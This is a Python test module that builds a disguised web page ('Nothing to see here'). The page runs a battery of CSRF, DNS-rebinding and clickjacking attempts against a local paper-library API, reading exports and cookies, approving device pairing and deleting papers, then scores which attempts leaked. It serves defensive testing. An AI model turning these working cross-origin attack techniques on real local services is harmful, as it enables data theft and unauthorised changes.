"""The attack page: everything a web page can try against the backend from inside Chromium.

``attack_page(base, secrets)`` returns the HTML of a page that, on load, tries to read or
change the library at ``base`` (``""`` for a page that is same-origin with the backend by
name, as after DNS rebinding) in every way a page can: fetch with and without a preflight,
with credentials, XHR, sendBeacon, EventSource, WebSocket, forms (urlencoded, text/plain
with a JSON-shaped body, empty), img/script/link loads of API URLs and frames of the library
page. Each attempt records what the page could observe; ``window.__attack`` resolves to the
list once every attempt has settled.
"""

from __future__ import annotations

import json

ATTACK_JS = r"""
(() => {
const B = __BASE__;
const S = __SECRETS__;
const results = [];
const note = (r) => { results.push(r); return r; };
const wsBase = (B || location.origin).replace(/^http/, "ws");

async function tryFetch(name, path, init) {
  const r = { name, kind: "fetch", path, mode: (init && init.mode) || "cors" };
  try {
    const res = await fetch(B + path, init);
    r.type = res.type; r.status = res.status; r.ok = res.ok;
    if (res.type !== "opaque" && res.type !== "opaqueredirect") {
      r.outcome = "read";
      r.text = (await res.text()).slice(0, 4000);
      r.headers = [...res.headers].map((h) => h.join(": ")).join("\n");
    } else {
      r.outcome = "opaque";
    }
  } catch (e) { r.outcome = "error"; r.error = String(e); }
  return note(r);
}

const json = (method, body, extra) => ({ method, mode: "cors", credentials: "include",
  headers: { "Content-Type": "application/json", ...(extra || {}) },
  body: body === undefined ? undefined : JSON.stringify(body) });
const simple = (method, body) => ({ method, mode: "no-cors", credentials: "include",
  headers: { "Content-Type": "text/plain" }, body: body === undefined ? undefined : JSON.stringify(body) });
const card = { title: "Injected by a web page " + S.mark, arxiv_id: "2601.99999", tags: ["pwned"] };

function xhr(name, method, path, body, type) {
  return new Promise((resolve) => {
    const r = { name, kind: "xhr", path };
    const x = new XMLHttpRequest();
    x.open(method, B + path);
    x.withCredentials = true;
    if (type) x.setRequestHeader("Content-Type", type);
    x.onload = () => { r.status = x.status; r.ok = x.status >= 200 && x.status < 300; r.outcome = "read"; r.text = String(x.responseText).slice(0, 4000); resolve(note(r)); };
    x.onerror = () => { r.outcome = "error"; resolve(note(r)); };
    x.send(body === undefined ? null : JSON.stringify(body));
  });
}

function element(name, tag, attrs, path) {
  return new Promise((resolve) => {
    const r = { name, kind: tag, path };
    const el = document.createElement(tag);
    let done = false;
    const finish = (outcome) => { if (done) return; done = true; r.outcome = outcome;
      if (tag === "img") r.size = [el.naturalWidth, el.naturalHeight];
      resolve(note(r)); };
    el.onload = () => finish("loaded");
    el.onerror = () => finish("error");
    setTimeout(() => finish("timeout"), 4000);
    for (const [k, v] of Object.entries(attrs)) el.setAttribute(k, v);
    document.body.appendChild(el);
  });
}

function socket(name, path) {
  return new Promise((resolve) => {
    const r = { name, kind: "websocket", path };
    let ws;
    try { ws = new WebSocket(wsBase + path); } catch (e) { r.outcome = "error"; r.error = String(e); resolve(note(r)); return; }
    const messages = [];
    ws.onopen = () => { r.opened = true; try { ws.send(JSON.stringify(card)); } catch (e) { /* closed */ } };
    ws.onmessage = (m) => messages.push(String(m.data).slice(0, 2000));
    const finish = (outcome) => { if (r.outcome) return; r.outcome = r.opened ? "opened" : outcome; r.text = messages.join("\n"); try { ws.close(); } catch (e) { /* gone */ } resolve(note(r)); };
    ws.onerror = () => finish("error");
    ws.onclose = () => finish("closed");
    setTimeout(() => finish("timeout"), 4000);
  });
}

function eventSource(name, path) {
  return new Promise((resolve) => {
    const r = { name, kind: "eventsource", path };
    const es = new EventSource(B + path, { withCredentials: true });
    const messages = [];
    es.onmessage = (m) => messages.push(String(m.data).slice(0, 2000));
    const finish = (outcome) => { if (r.outcome) return; r.outcome = outcome; r.text = messages.join("\n"); es.close(); resolve(note(r)); };
    es.onopen = () => { r.opened = true; };
    es.onerror = () => finish(r.opened ? "opened" : "error");
    setTimeout(() => finish("timeout"), 4000);
  });
}

let formCount = 0;
function form(name, path, enctype, fields, method) {
  return new Promise((resolve) => {
    const r = { name, kind: "form", path, enctype };
    const target = `f${++formCount}`;
    const frame = document.createElement("iframe");
    frame.name = target;
    frame.className = "form-target";
    document.body.appendChild(frame);
    const f = document.createElement("form");
    f.method = method || "POST";
    f.action = B + path;
    f.target = target;
    if (enctype) f.enctype = enctype;
    for (const [k, v] of fields) {
      const i = document.createElement("input");
      i.type = "hidden"; i.name = k; i.value = v;
      f.appendChild(i);
    }
    document.body.appendChild(f);
    let done = false;
    const finish = (outcome) => {
      if (done) return; done = true; r.outcome = outcome;
      try { r.text = frame.contentDocument.body.innerText.slice(0, 4000); r.readable = true; }
      catch (e) { r.readable = false; }
      resolve(note(r));
    };
    frame.onload = () => finish("loaded");
    setTimeout(() => finish("timeout"), 5000);
    f.submit();
  });
}

function frame(name, path) {
  return new Promise((resolve) => {
    const r = { name, kind: "iframe", path };
    const fr = document.createElement("iframe");
    fr.className = "framed";
    fr.dataset.path = path;
    fr.style.width = "600px"; fr.style.height = "400px";
    let done = false;
    const finish = (outcome) => {
      if (done) return; done = true; r.outcome = outcome;
      try { r.text = fr.contentDocument.body.innerText.slice(0, 4000); r.readable = true; }
      catch (e) { r.readable = false; }
      resolve(note(r));
    };
    fr.onload = () => setTimeout(() => finish("loaded"), 1200);
    setTimeout(() => finish("timeout"), 6000);
    fr.src = B + path;
    document.body.appendChild(fr);
  });
}

window.__attack = (async () => {
  const p1 = S.paper_id, undo = S.undo_id, pair = S.pair_request_id;
  await Promise.all([
    // reading
    tryFetch("read papers (cors, credentials)", "/api/papers?limit=500", { credentials: "include" }),
    tryFetch("read papers (no-cors, credentials)", "/api/papers?q=" + encodeURIComponent(S.canary), { mode: "no-cors", credentials: "include" }),
    tryFetch("read one paper", `/api/papers/${p1}`, { credentials: "include" }),
    tryFetch("read status", "/api/status", { credentials: "include" }),
    tryFetch("read clients", "/api/clients", { credentials: "include" }),
    tryFetch("read pair requests", "/api/pair/requests", { credentials: "include" }),
    tryFetch("read tags", "/api/tags", { credentials: "include" }),
    tryFetch("read export.bib", "/api/export.bib", { credentials: "include" }),
    tryFetch("read export json", "/api/export", { credentials: "include" }),
    tryFetch("read ping", "/api/ping", {}),
    tryFetch("read library page", "/", { credentials: "include" }),
    tryFetch("read index.html", "/index.html", { credentials: "include" }),
    tryFetch("guessed bearer token", "/api/papers", { headers: { Authorization: "Bearer ps_guess" } }),
    xhr("xhr read papers", "GET", "/api/papers"),
    eventSource("eventsource papers", "/api/papers"),
    // changing: simple requests (no preflight)
    tryFetch("save, text/plain (simple)", "/api/papers", simple("POST", card)),
    tryFetch("save, no Content-Type", "/api/papers", { method: "POST", mode: "no-cors", credentials: "include", body: new Blob([JSON.stringify(card)]) }),
    tryFetch("bulk delete, text/plain", "/api/papers/bulk", simple("POST", { ids: [p1], action: "delete" })),
    tryFetch("restore (empty POST)", `/api/papers/${S.trashed_id}/restore`, { method: "POST", mode: "no-cors", credentials: "include" }),
    tryFetch("undo (empty POST)", `/api/undo/${undo}`, { method: "POST", mode: "no-cors", credentials: "include" }),
    tryFetch("approve pairing (empty POST)", `/api/pair/requests/${pair}/approve`, { method: "POST", mode: "no-cors", credentials: "include" }),
    tryFetch("rename tag, text/plain", "/api/tags/rename", simple("POST", { from: S.tag, to: "pwned" })),
    tryFetch("import bibtex, text/plain", "/api/import", simple("POST", { bibtex: "@article{pwn, title={Injected}, author={Web, Page}, year={2024}}" })),
    tryFetch("auto-export, text/plain", "/api/auto-exports", simple("POST", { path: S.export_path })),
    tryFetch("pair request, text/plain", "/api/pair/requests", simple("POST", { client: "Evil page" })),
    xhr("xhr save, text/plain", "POST", "/api/papers", card, "text/plain"),
    // changing: preflighted requests
    tryFetch("save, JSON (preflight)", "/api/papers", json("POST", card)),
    tryFetch("patch, JSON (preflight)", `/api/papers/${p1}`, json("PATCH", { title: "Changed by a web page" })),
    tryFetch("delete paper (preflight)", `/api/papers/${p1}`, { method: "DELETE", credentials: "include" }),
    tryFetch("empty trash (preflight)", "/api/trash", { method: "DELETE", credentials: "include" }),
    tryFetch("delete tag (preflight)", `/api/tags/${encodeURIComponent(S.tag)}`, { method: "DELETE", credentials: "include" }),
    tryFetch("bulk delete, JSON (preflight)", "/api/papers/bulk", json("POST", { ids: [p1], action: "delete" })),
    tryFetch("auto-export, JSON (preflight)", "/api/auto-exports", json("POST", { path: S.export_path })),
    tryFetch("pair request, JSON (preflight)", "/api/pair/requests", json("POST", { client: "Evil page" })),
    tryFetch("approve pairing, JSON (preflight)", `/api/pair/requests/${pair}/approve`, json("POST", {})),
    tryFetch("save with guessed token (preflight)", "/api/papers", json("POST", card, { Authorization: "Bearer ps_guess" })),
    // element loads (no CORS at all)
    element("img of the papers", "img", { src: B + "/api/papers?limit=500" }, "/api/papers"),
    element("img of the export", "img", { src: B + "/api/export.bib" }, "/api/export.bib"),
    element("script of the papers", "script", { src: B + "/api/papers?limit=500" }, "/api/papers"),
    element("script of the export", "script", { src: B + "/api/export.bib" }, "/api/export.bib"),
    element("script of the JSON export", "script", { src: B + "/api/export" }, "/api/export"),
    element("stylesheet of the export", "link", { rel: "stylesheet", href: B + "/api/export.bib" }, "/api/export.bib"),
    element("stylesheet of the papers", "link", { rel: "stylesheet", href: B + "/api/papers" }, "/api/papers"),
    // sockets
    socket("websocket /api/papers", "/api/papers"),
    socket("websocket /", "/"),
    // forms
    form("form urlencoded save", "/api/papers", "application/x-www-form-urlencoded", [["title", card.title], ["arxiv_id", card.arxiv_id]]),
    form("form text/plain JSON save", "/api/papers", "text/plain", [['{"title":"Injected by a form ' + S.mark + '","x":"', '"}']]),
    form("form multipart save", "/api/papers", "multipart/form-data", [["title", card.title]]),
    form("form text/plain JSON bulk delete", "/api/papers/bulk", "text/plain", [['{"ids":[' + p1 + '],"action":"delete","x":"', '"}']]),
    form("form empty undo", `/api/undo/${undo}`, "application/x-www-form-urlencoded", []),
    form("form empty approve pairing", `/api/pair/requests/${pair}/approve`, "application/x-www-form-urlencoded", []),
    form("form empty trash restore", `/api/papers/${S.trashed_id}/restore`, "application/x-www-form-urlencoded", []),
    form("form GET papers", "/api/papers", null, [["q", S.canary]], "GET"),
    // frames (clickjacking)
    frame("frame /", "/"),
    frame("frame /index.html", "/index.html"),
    frame("frame #/pairing", "/#/pairing"),
    frame("frame /api/papers", "/api/papers"),
  ]);
  // sendBeacon answers only whether it queued the request
  note({ name: "sendBeacon save", kind: "beacon", path: "/api/papers",
         outcome: navigator.sendBeacon(B + "/api/papers", new Blob([JSON.stringify(card)], { type: "text/plain" })) ? "queued" : "refused" });
  note({ name: "document.cookie", kind: "cookie", path: "", outcome: "read", text: document.cookie });
  await new Promise((r) => setTimeout(r, 500));
  return results;
})();
})();
"""


def attack_page(base: str, secrets: dict) -> str:
    script = (ATTACK_JS.replace("__BASE__", json.dumps(base))
              .replace("__SECRETS__", json.dumps(secrets)))
    return ("<!doctype html><html><head><meta charset='utf-8'><title>A page on the web</title>"
            "</head><body><h1>Nothing to see here</h1><script>" + script + "</script></body></html>")


def _tells_something(text: str) -> bool:
    """A readable answer tells the page something unless it is one of our JSON errors."""
    text = text.strip()
    if not text:
        return False
    try:
        data = json.loads(text)
    except ValueError:
        return True  # a rendered page, a .bib file, anything but an error
    return not (isinstance(data, dict) and set(data) <= {"error", "field"})


def leaks(results: list[dict], secrets: list[str]) -> list[dict]:
    """Attempts whose answer the page could read and that told it something.

    An answer leaks when it holds one of ``secrets`` (the library's canary title and tag, the
    token, the session cookie), or the page read a 2xx answer, or read anything but an error
    message (a frame or a form's target it could look into), or loaded an API URL as an
    image, script or stylesheet, or saw a socket or event stream open.
    """
    out = []
    for r in results:
        text = r.get("text") or ""
        if any(s and s in text for s in secrets):
            out.append(r)
        elif r["kind"] in ("fetch", "xhr") and r.get("outcome") == "read" and (
                r.get("ok") or _tells_something(text)):
            out.append(r)
        elif r["kind"] in ("img", "script", "link") and r.get("outcome") == "loaded":
            out.append(r)
        elif r["kind"] in ("websocket", "eventsource") and r.get("opened"):
            out.append(r)
        elif r["kind"] in ("form", "iframe") and r.get("readable") and _tells_something(text):
            out.append(r)
    return out
